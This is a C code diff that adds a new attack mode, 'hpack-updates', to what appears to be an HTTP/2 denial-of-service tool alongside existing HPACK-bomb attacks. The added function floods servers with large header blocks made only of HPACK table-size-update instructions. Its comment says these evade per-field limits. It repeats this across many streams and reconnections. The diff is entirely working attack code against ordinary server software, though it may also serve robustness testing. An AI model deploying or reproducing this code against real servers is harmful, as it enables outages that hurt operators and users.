@@ -9,6 +9,7 @@
 #define BLOCK_SIZE  (378u * 1000) /* a little under libh2o's limit for one block */
 #define STREAMS_MAX 69            /* 26 MB */
 #define WHOLE_MAX   16            /* whole requests under way */
+#define SIZE_UPDATE 0x20          /* RFC 7541, 6.3: the table is to hold nothing */
 
 /* 82: GET, 87: https, 84: /, 40: a new name, with incremental indexing. */
 static size_t bomb(uint8_t *block)
@@ -51,6 +52,19 @@ static bool turn_whole(client *c)
     return true;
 }
 
+/* Instructions that make no field at all: a count of fields does not see them. */
+static bool turn_updates(client *c)
+{
+    static uint8_t block[BLOCK_SIZE];
+    memset(block, SIZE_UPDATE, sizeof(block));
+    if (c->open_streams < WHOLE_MAX) {
+        put_block(c, c->next_stream, END_HEADERS | END_STREAM, block, sizeof(block));
+        c->next_stream += 2;
+        c->open_streams++;
+    }
+    return true;
+}
+
 const attack hpack_bomb_held = {
     .name = "hpack-bomb-held",
     .help = "HPACK bomb, 26 MB of requests that never end",
@@ -67,4 +81,13 @@ const attack hpack_bomb = {
     .connections = 1,
     .reconnects = true,
     .turn = turn_whole,
+};
+
+const attack hpack_updates = {
+    .name = "hpack-updates",
+    .help = "header blocks of changes of the table's size",
+    .carriage = CARRY_H2,
+    .connections = 1,
+    .reconnects = true,
+    .turn = turn_updates,
 };
